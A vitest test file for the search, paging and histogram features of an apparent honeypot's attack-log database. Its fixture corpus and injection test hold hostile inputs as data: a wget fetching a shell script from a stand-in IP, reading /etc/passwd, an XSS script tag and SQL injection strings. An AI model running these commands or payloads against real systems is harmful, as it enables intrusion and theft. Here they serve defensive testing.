import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { DecnetDatabase } from '../src/database.ts'
import { SearchQueryError } from '../src/errors.ts'
import type { LogEventInput } from '../src/types.ts'
import { databases, event } from './fixtures.ts'

const T = (minute: number) => new Date(Date.UTC(2026, 10, 25, 10, minute))

// A small corpus whose expected matches are written out by hand; both databases must agree with it.
const corpus: LogEventInput[] = [
  event({
    timestamp: T(0),
    rawLine: 'SSH login root/123456',
    fields: { username: 'root', password: '123456' },
  }),
  event({
    timestamp: T(1),
    rawLine: 'SSH login admin/admin',
    fields: { username: 'admin', password: 'admin' },
  }),
  event({
    timestamp: T(2),
    eventType: 'command',
    rawLine: 'exec: wget http://198.51.100.9/x.sh -O /tmp/x.sh',
    fields: { command: 'wget http://198.51.100.9/x.sh -O /tmp/x.sh' },
  }),
  event({
    timestamp: T(3),
    eventType: 'command',
    rawLine: 'exec: cat /etc/passwd',
    fields: { command: 'cat /etc/passwd' },
  }),
  event({
    timestamp: T(4),
    decky: 'decky-02',
    service: 'http',
    eventType: 'request',
    attackerIp: '198.51.100.20',
    rawLine: 'GET /admin/login.php HTTP/1.1',
    fields: { method: 'GET', path: '/admin/login.php', user_agent: 'Mozilla/5.0 zgrab' },
  }),
  event({
    timestamp: T(5),
    decky: 'decky-02',
    service: 'http',
    eventType: 'request',
    attackerIp: '198.51.100.20',
    rawLine: 'POST /cgi-bin/passwd root',
    fields: { method: 'POST', path: '/cgi-bin/passwd', note: 'user root' },
  }),
  event({
    timestamp: T(6),
    decky: 'decky-03',
    service: 'smb',
    eventType: 'negotiate',
    attackerIp: '192.0.2.55',
    rawLine: 'SMB negotiate dialects NT LM 0.12 <script>alert(1)</script>',
    fields: { dialects: ['NT LM 0.12', 'SMB 2.002'], domain: 'WORKGROUP' },
  }),
  event({
    timestamp: T(7),
    decky: 'decky-03',
    service: 'rdp',
    eventType: 'connect',
    attackerIp: '192.0.2.55',
    rawLine: 'RDP cookie mstshash=Administrator\'; DROP TABLE "Log"; --',
    fields: { cookie: 'mstshash=Administrator', café: 'naïve Ünïcode' },
  }),
]

describe.each(databases())('logs on $kind', (provider) => {
  let db: DecnetDatabase
  let ids: number[]
  beforeAll(async () => {
    ;({ db } = await provider.open())
    ids = (await db.logs.ingest(corpus)).map((row) => row.id)
  })
  afterAll(() => provider.cleanup())

  /** Indexes into `corpus` of the rows a query returns, newest first. */
  const hits = async (q: string, extra: { from?: Date; to?: Date } = {}) =>
    (await db.logs.search({ q, limit: 100, ...extra })).rows.map((row) => ids.indexOf(row.id))

  it('ingest returns the stored rows with increasing ids, in input order', () => {
    expect(ids).toHaveLength(corpus.length)
    expect([...ids].sort((a, b) => a - b)).toEqual(ids)
  })

  it.each([
    ['', [7, 6, 5, 4, 3, 2, 1, 0]],
    ['root', [5, 0]],
    ['ROOT', [5, 0]],
    ['root passwd', [5]],
    ['"cat /etc/passwd"', [3]],
    ['"passwd cat"', []],
    ['/etc/passwd', [3]],
    ['wget', [2]],
    ['198.51.100.9', [2]],
    ['service:http', [5, 4]],
    ['service:http root', [5]],
    ['decky:decky-03', [7, 6]],
    ['event:command', [3, 2]],
    ['type:request', [5, 4]],
    ['attacker:198.51.100.20', [5, 4]],
    ['ip:192.0.2.55 rdp', [7]],
    ['username:root', [0]],
    ['user:root', [0]],
    ['user:admin pass:admin', [1]],
    ['service:ssh AND (root OR admin)', [1, 0]],
    ['service:ssh and (root or admin)', [1, 0]],
    ['root OR wget', [5, 2, 0]],
    ['(service:http OR decky:decky-03) NOT root', [7, 6, 4]],
    ['NOT service:ssh', [7, 6, 5, 4]],
    ['"cat /etc/passwd" OR "passwd cat"', [3]],
    ['admin OR (service:rdp mstshash)', [7, 4, 1]],
    ['(user:root OR user:admin) NOT pass:admin', [0]],
    ['"OR" root', []],
    ['note:root', [5]],
    ['note:"user root"', [5]],
    ['password:admin', [1]],
    ['method:post', [5]],
    ['user_agent:zgrab', [4]],
    ['dialects:"smb 2.002"', [6]],
    ['café:naïve', [7]],
    ['ünïcode', [7]],
    ['script alert', [6]],
    ['drop table', [7]],
    ['nomatch', []],
    ['from:2026-11-25T10:05:00Z', [7, 6, 5]],
    ['to:2026-11-25T10:02Z', [1, 0]],
    ['from:2026-11-25T10:01:00Z to:2026-11-25T10:04:00Z service:ssh', [3, 2, 1]],
  ])('q=%j', async (q, expected) => {
    expect(await hits(q)).toEqual(expected)
  })

  it('the from/to inputs narrow the range like the grammar does', async () => {
    expect(await hits('root', { from: T(1) })).toEqual([5])
    expect(await hits('', { from: T(2), to: T(4) })).toEqual([3, 2])
  })

  it('treats hostile query text as data, never as SQL or FTS syntax', async () => {
    for (const q of ['NEAR root admin', '" OR 1=1 --"', '"x) OR (1=1"', '"root) OR (admin"', 'z OR q']) {
      expect(await hits(q)).toEqual([])
    }
    // Operators and wildcards are just punctuation: these match the words they contain, literally.
    expect(await hits(`'; DROP TABLE "Log"; --`)).toEqual([7])
    expect(await hits('root*')).toEqual([5, 0])
    expect(await hits(`service:"http' OR 1=1"`)).toEqual([])
    expect(await hits("service:http' OR zzz")).toEqual([])
    expect((await db.logs.search({})).total).toBe(corpus.length)
  })

  it.each([
    ['"unterminated', 'unterminated quote'],
    ['service:ssh AND (root OR admin', 'unclosed parenthesis at column 17'],
    ['x) OR (1=1', "unmatched ')' at column 2"],
    ['root OR', "'OR' has no term after it at column 6"],
    [':value', "missing key before ':'"],
    ['service:', "missing value after 'service:'"],
    ['from:yesterday', "'from:' expects an ISO-8601"],
    ['last:5 weeks', "'last:' expects a duration"],
    ['"!!!"', 'no letters or digits'],
    ['user:---', 'no letters or digits'],
    ['x'.repeat(1025), 'longer than 1024'],
    [Array.from({ length: 33 }, (_, i) => `w${i}`).join(' '), 'more than 32 terms'],
  ])('rejects malformed q=%j with a typed BAD_REQUEST error', async (q, message) => {
    const search = db.logs.search({ q })
    await expect(search).rejects.toBeInstanceOf(SearchQueryError)
    await expect(search).rejects.toThrow(message)
    await expect(search).rejects.toMatchObject({ code: 'BAD_REQUEST' })
  })

  it('pages newest first with a cursor and counts the whole match', async () => {
    const first = await db.logs.search({ q: '', limit: 3 })
    expect(first.total).toBe(8)
    expect(first.totalExact).toBe(true)
    expect(first.rows.map((r) => r.id)).toEqual(ids.slice(5).reverse())
    const second = await db.logs.search({ q: '', limit: 3, cursor: first.nextCursor })
    expect(second.rows.map((r) => r.id)).toEqual(ids.slice(2, 5).reverse())
    expect(second.total).toBe(8)
    const third = await db.logs.search({ q: '', limit: 3, cursor: second.nextCursor })
    expect(third.rows.map((r) => r.id)).toEqual(ids.slice(0, 2).reverse())
    expect(third.nextCursor).toBeUndefined()
  })

  it('returns rows with the data as captured', async () => {
    const [row] = (await db.logs.search({ q: 'decky:decky-03 smb' })).rows
    expect(row).toMatchObject({
      decky: 'decky-03',
      service: 'smb',
      eventType: 'negotiate',
      attackerIp: '192.0.2.55',
      attackerPort: 50000,
      rawLine: 'SMB negotiate dialects NT LM 0.12 <script>alert(1)</script>',
      fields: { dialects: ['NT LM 0.12', 'SMB 2.002'], domain: 'WORKGROUP' },
    })
    expect(row?.timestamp.toISOString()).toBe(T(6).toISOString())
  })

  it('histogram buckets the matches', async () => {
    expect(await db.logs.histogram({ q: '', bucketMinutes: 5 })).toEqual([
      { t: T(0), count: 5 },
      { t: T(5), count: 3 },
    ])
    expect(await db.logs.histogram({ q: 'service:http', bucketMinutes: 1 })).toEqual([
      { t: T(4), count: 1 },
      { t: T(5), count: 1 },
    ])
  })

  it('since() tails rows after an id, optionally filtered', async () => {
    expect((await db.logs.since(ids[5] as number)).map((r) => r.id)).toEqual(ids.slice(6))
    expect((await db.logs.since(0, { q: 'service:smb' })).map((r) => r.id)).toEqual([ids[6]])
  })
})
